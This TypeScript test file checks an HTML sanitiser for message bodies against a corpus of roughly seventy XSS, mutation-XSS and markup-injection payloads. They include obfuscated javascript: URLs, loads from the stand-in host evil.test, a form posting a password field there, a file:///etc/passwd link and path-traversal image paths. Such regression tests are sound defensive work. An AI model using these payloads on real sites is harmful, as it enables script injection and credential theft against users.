import { prepareBody } from '../sanitizeBody';

/** What ran, or told its sender that it was read, in mail programs and help desks before. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<img src=x onerror=alert(1)>',
  '<img src="x:x" onerror="alert(1)"//',
  '<img """><script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img srcset="https://evil.test/a 1x, https://evil.test/b 2x" src="https://evil.test/c">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<picture><source srcset="https://evil.test/x"><img src="https://evil.test/y"></picture>',
  '<body onload=alert(1) background="https://evil.test/x">x',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="x" onmouseover="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://a.test" target="_self" rel="opener">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="//evil.test/x.swf">',
  '<link rel="stylesheet" href="https://evil.test/x.css"><style>@import "https://evil.test/y.css";</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<video poster="https://evil.test/x" onerror=alert(1)><source src="https://evil.test/y"></video>',
  '<audio src="https://evil.test/x" autoplay></audio>',
  '<table background="https://evil.test/x"><td background="javascript:alert(1)">x</td></table>',
  '<div style="background:url(https://evil.test/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<p id="ticketing-send" class="ant-btn" name="x">x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->x',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x onclick="alert(1)">x</x>',
  '<x/onclick=alert(1)>x',
  '<p/onclick=alert(1)>x',
  '<p \u0000onclick=alert(1)>x</p>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<div data-quote onclick=alert(1)>x</div>',
  '<img data-remote-src="javascript:alert(1)">',
  '<img data-remote-src="https://evil.test/x&quot; onerror=&quot;alert(1)">',
  '<img src="https://evil.test/&quot;onerror=alert(1)//">',
  '<img src="/storage/uploads/../../api/users:destroy">',
  '<img src="/files/main/main/users/1">',
  '<img src="//evil.test/files/main/main/ticketingAttachments/1">',
  '<img src="/files/main/main/ticketingAttachments/1?x=/../">',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '{{constructor.constructor("alert(1)")()}}<p>${alert(1)}</p>',
  '"><script>alert(1)</script>',
  "';alert(1)//",
  '<<img src=x onerror=alert(1)//',
  '<a href="https://a.test/"onclick="alert(1)">x</a>',
  '\u202Egnp.exe<script>x</script>',
];

const ALLOWED_TAGS =
  /^(?:p|div|br|hr|span|blockquote|pre|code|h[1-6]|b|strong|i|em|u|s|del|ins|sub|sup|small|mark|kbd|abbr|q|cite|ul|ol|li|dl|dt|dd|a|img|figure|figcaption|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td)$/;
const ALLOWED_ATTRIBUTES =
  /^(?:dir|lang|href|title|target|rel|src|alt|width|height|colspan|rowspan|align|start|data-quote|data-remote-src)$/;
const TAG = /<\/?([^\s/>]+)([^>]*)>/g;
const ATTRIBUTE = /([^\s=]+)(?:="([^"]*)")?/g;

/** Reads what the sanitiser wrote by its own strict grammar: whatever does not fit it is a finding. */
function findings(html: string): string[] {
  const found: string[] = [];
  for (const [, tag, rest] of html.matchAll(TAG)) {
    if (!ALLOWED_TAGS.test(tag)) found.push(`<${tag}>`);
    for (const [, name, value = ''] of rest.replace(/\/$/, '').matchAll(ATTRIBUTE)) {
      if (!ALLOWED_ATTRIBUTES.test(name)) found.push(`${tag}[${name}]`);
      if (name === 'href' && !/^(?:https?:|mailto:|tel:|\/(?!\/)|#|[\w.-]*$)/i.test(value)) found.push(value);
      if (name === 'src' && !/^(?:cid:|data:image\/(?:png|jpe?g|gif|webp|avif);base64,|\/(?!\/))/i.test(value)) {
        found.push(value);
      }
      if (name === 'data-remote-src' && !/^https?:\/\/[^\s"'<>]+$/i.test(value)) found.push(value);
    }
  }
  const text = html.replace(TAG, '');
  if (/[<>]/.test(text) || html.includes('\0')) found.push('a loose angle');
  return found;
}

test.each(CORPUS)('%j comes out harmless', (html) => {
  const { body, original } = prepareBody(`<p>before</p>${html}`);
  expect(findings(body)).toEqual([]);
  expect(body).toContain('before');
  if (original !== null) expect(original).not.toContain('\0');
});

test('sanitising twice changes nothing more', () => {
  for (const html of CORPUS) {
    const once = prepareBody(`<p>before</p>${html}`).body;
    expect(prepareBody(once).body).toBe(once);
  }
});

test('the original is kept where something was taken away, and only there', () => {
  expect(prepareBody('<p>Hello<br>you</p>').original).toBeNull();
  expect(prepareBody('<p>Say "hello" <a href="https://a.test">here</a></p>').original).toBeNull();
  expect(prepareBody('<p>Hello</p><script>x</script>').original).toBe('<p>Hello</p><script>x</script>');
});

test('a remote picture is flagged and loads nothing; one that only counts readers is gone', () => {
  const { body, remoteImages } = prepareBody(
    '<p>x</p><img src="https://a.test/logo.png" alt="Logo"><img src="https://a.test/p.gif" width="1" height="1">',
  );
  expect(remoteImages).toBe(1);
  expect(body).toBe('<p>x</p><img alt="Logo" data-remote-src="https://a.test/logo.png" />');
});

test.each([
  ['<p>Thanks</p><div class="gmail_quote"><div>On Mon, Ann wrote:</div><blockquote>old</blockquote></div>', 'Thanks'],
  ['<p>Thanks</p><blockquote type="cite">old</blockquote>', 'Thanks'],
  ['<div>Thanks</div><div id="divRplyFwdMsg"><b>From:</b> Ann</div><div>old</div>', 'Thanks'],
  ['<p>Thanks</p><p>On Mon, 2 Feb 2026 at 10:00, Ann Lee wrote:</p><blockquote>old</blockquote>', 'Thanks'],
  ['<p>谢谢</p><p>在 2026年2月2日，王小明 写道：</p><blockquote>old</blockquote>', '谢谢'],
  ['<p>Danke</p><p>-----Ursprüngliche Nachricht-----</p><p>old</p>', 'Danke'],
  ['<div><div>Thanks</div><div class="gmail_quote">old</div><p>old too</p></div>', 'Thanks'],
])('what is quoted stands in one marked place: %s', (html, own) => {
  const { body } = prepareBody(html);
  const parts = body.split('<blockquote data-quote="">');
  expect(parts).toHaveLength(2);
  expect(parts[0]).toContain(own);
  expect(parts[0]).not.toContain('old');
  expect(parts[1]).toContain('old');
  expect(findings(body)).toEqual([]);
  expect(body.match(/<blockquote/g)?.length).toBe(body.match(/<\/blockquote>/g)?.length);
});

test('what somebody quotes in their own words is not folded', () => {
  expect(prepareBody('<blockquote>You said this</blockquote><p>and I say that</p>').body).not.toContain('data-quote');
  expect(prepareBody('<p>Type data-quote="" to fold</p>').body).toBe('<p>Type data-quote="" to fold</p>');
});

test.each(['\u200B\u200B', '<p>\u202E\u2066</p>', '\uFEFF', '<p>&#8203;&#x3164;</p>'])('%j says nothing', (html) => {
  expect(() => prepareBody(html)).toThrow(expect.objectContaining({ code: 'FIELD_REQUIRED' }));
});

test('with a file beside it, nothing need be said', () => {
  expect(prepareBody('', { mayBeEmpty: true })).toMatchObject({ body: '', bodyText: '' });
});

test.each([
  ['introductions', `<p>On ${'x '.repeat(100)}wrote</p>`.repeat(4_000)],
  ['quotes', `<div class="gmail_quote">${'x'.repeat(50)}</div>`.repeat(10_000)],
  ['images', '<img src="https://a.test/x.png">'.repeat(30_000)],
  ['nested quotes', `${'<blockquote type="cite">'.repeat(1_900)}x`],
])('a megabyte of %s holds up nobody', (_, html) => {
  const started = Date.now();
  prepareBody(`x${html}`.slice(0, 1_000_000));
  expect(Date.now() - started).toBeLessThan(4_000);
});
